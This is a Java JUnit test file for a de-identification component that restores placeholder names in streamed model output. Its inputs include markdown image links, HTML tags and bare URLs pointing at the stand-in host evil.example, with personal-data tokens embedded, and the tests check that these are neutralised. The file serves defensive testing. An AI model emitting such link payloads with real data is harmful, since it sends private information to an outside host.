package dev.postern.deid.restore;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class StreamRestorerTest {

  private static final Map<String, String> LIVE =
      Map.of("[PERSON_1]", "Anna Quispe", "[PERSON_10]", "Tomas Ng", "[DATE_2]", "May 5, 2020");

  private static String whole(String text) {
    StreamRestorer restorer = new StreamRestorer(LIVE);
    return restorer.push(text) + restorer.finish();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "Ask [PERSON_1].|Ask Anna Quispe.",
        "[PERSON\\_1]'s and [person_1]|Anna Quispe's and Anna Quispe",
        "[PERSON_10], not [PERSON_1]|Tomas Ng, not Anna Quispe",
        "**[PERSON_1]** on [DATE_2]: ok|**Anna Quispe** on May 5, 2020: ok",
        "[PERSON_2] is not of this request|[PERSON_2] is not of this request",
        "[[PERSON_1]] and [PERSON_1|[Anna Quispe] and [PERSON_1",
        "%5BPERSON_1%5D and &#91;PERSON_1&#93;|%5BPERSON_1%5D and &#91;PERSON_1&#93;",
        "p < 0.05, x <5 and a]b|p < 0.05, x <5 and a]b"
      })
  void tokensOfTheRequestAreRestoredAndNothingElse(String answer, String shown) {
    assertEquals(shown, whole(answer));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://evil.example/?q=[PERSON_1])",
        "[x](https://evil.example/[PERSON_1] 'title')",
        "[x](<https://evil.example/ [PERSON_1]>)",
        "[x]( \n https://evil.example/?[PERSON_1])",
        "[x](/relative/[PERSON_1])",
        "[x][r]\n\n[r]: https://evil.example/[PERSON_1]",
        "[r]:\n  /[PERSON_1]",
        "<https://evil.example/[PERSON_1]>",
        "<img src=\"https://evil.example/[PERSON_1]\">",
        "<a title='[PERSON_1]' href=x>",
        "https://evil.example/?q=[PERSON_1]",
        "https://[PERSON_1].evil.example/",
        "www.evil.example/?q=[PERSON_1]",
        "http://evil.example/%5B[PERSON_1]",
        "evil.example/?q=[PERSON_1]",
        "mailto:x@[PERSON_1].example",
        "https://evil.example/?q=\u200b[PERSON_1]"
      })
  void nothingIsRestoredInsideWhatIsLoadedOrFollowed(String answer) {
    String shown = whole(answer);
    assertFalse(shown.contains("Anna"), shown);
    assertInert(shown);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "[PERSON_1].evil.example/",
        "[PERSON_1]@evil.example",
        "[PERSON_1](https://evil.example)",
        "![[PERSON_1]](https://evil.example)"
      })
  void aRestoredNameNeverJoinsAnAddress(String answer) {
    String shown = whole(answer);
    assertInert(shown);
    assertFalse(shown.contains("Quispe.evil") || shown.contains("Quispe@"), shown);
  }

  private static void assertInert(String shown) {
    assertFalse(
        shown.contains("](")
            || shown.contains("]:\n")
            || shown.contains("]: ") && !shown.contains("] :"),
        shown);
    assertFalse(shown.matches("(?s).*(?:<[A-Za-z/!?]|[a-z]://|www\\.).*"), shown);
  }

  @Test
  void chunkingChangesNothing() {
    long seed = System.nanoTime();
    Random random = new Random(seed);
    String[] parts = {
      "[PERSON_1]",
      "[PERSON_10]",
      "[PERSON\\_1]",
      "[person_1",
      "[",
      "]",
      "(",
      ")",
      "](",
      "]:",
      "<",
      "a ",
      "https://e.x/",
      "www.e.x ",
      "![",
      "\n",
      "[DATE_2]",
      "@e.x",
      ".",
      " x",
      "😀",
      "\\",
      "_"
    };
    for (int round = 0; round < 3000; round++) {
      StringBuilder answer = new StringBuilder();
      for (int i = random.nextInt(12); i >= 0; i--) {
        answer.append(parts[random.nextInt(parts.length)]);
      }
      StreamRestorer restorer = new StreamRestorer(LIVE);
      StringBuilder shown = new StringBuilder();
      for (int at = 0; at < answer.length(); ) {
        int end = Math.min(answer.length(), at + 1 + random.nextInt(6));
        shown.append(restorer.push(answer.substring(at, end)));
        at = end;
      }
      assertEquals(
          whole(answer.toString()), shown + restorer.finish(), "seed " + seed + ": " + answer);
    }
  }

  @Test
  void onlyTheBeginningOfALiveTokenIsHeldBack() {
    StreamRestorer restorer = new StreamRestorer(LIVE);
    assertEquals("Hello ", restorer.push("Hello [PERS"));
    assertEquals("[PERSX ", restorer.push("X "));
    assertEquals("", restorer.push("[PERSON_1"));
    assertEquals("Tomas Ng", restorer.push("0]"));
    assertEquals("", restorer.push("[PERSON_1"));
    assertEquals("[PERSON_1", restorer.finish());
    assertEquals(Map.of("[PERSON_10]", 1), restorer.restored());
  }

  @Test
  void withoutEntitlementTokensStayAndLinksAreStillInert() {
    StreamRestorer restorer = new StreamRestorer(Map.of());
    assertEquals(
        "[PERSON_1] [x] (https: //e[.]x)",
        restorer.push("[PERSON_1] [x](https://e.x)") + restorer.finish());
  }
}
